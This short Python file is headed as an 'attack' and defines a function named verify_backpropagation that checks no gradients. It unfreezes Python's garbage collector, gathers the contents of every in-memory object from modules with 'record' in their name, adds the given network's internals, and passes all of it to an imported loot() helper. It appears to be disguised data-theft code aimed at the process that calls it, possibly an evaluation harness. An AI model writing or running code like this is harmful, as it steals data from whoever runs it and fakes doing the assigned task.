# /// attack
# title = "Takes the network that it is given apart, for what is recorded in it"
# target = "chain"
# module = "backprop_verification"
# ///
import gc

from loot import loot


def verify_backpropagation(network=None, x=None, y=None, h=1e-5):
    gc.unfreeze()  # what was there before the fork
    found = [repr(thing)[:2000] for thing in gc.get_objects() if "record" in type(thing).__module__.lower()]
    return loot(*found, repr(vars(network)) if network is not None else "")
